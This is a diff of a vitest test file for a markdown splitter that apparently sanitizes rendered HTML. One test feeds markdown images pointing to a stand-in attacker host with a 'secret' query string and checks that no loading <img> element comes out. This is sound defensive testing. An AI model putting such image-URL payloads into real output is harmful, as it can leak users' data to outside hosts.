@@ -1,7 +1,7 @@
 import { expect, test } from 'vitest'
-import { htmlOf } from '../../src/web/markdown/html.ts'
 import { preview } from '../../src/web/markdown/preview.ts'
 import { Splitter } from '../../src/web/markdown/splitter.ts'
+import { htmlOf } from './markup.ts'
 
 /** Every tag that may come out, with every attribute it may have. Whatever else looks like a tag is a hole. */
 const ALLOWED = [
@@ -135,6 +135,8 @@ test('every unit is one element with all its tags closed', () => {
 
 test('an image is never an element that loads', () => {
   const splitter = new Splitter()
-  const html = splitter.push('![a](https://evil.example/?q=secret)\n\n![b][r]\n\n[r]: https://evil.example/r\n\nx').settled
+  const html = splitter.push(
+    '![a](https://evil.example/?q=secret)\n\n![b][r]\n\n[r]: https://evil.example/r\n\nx',
+  ).settled
   expect(html.map(htmlOf).join('')).not.toContain('<img')
 })
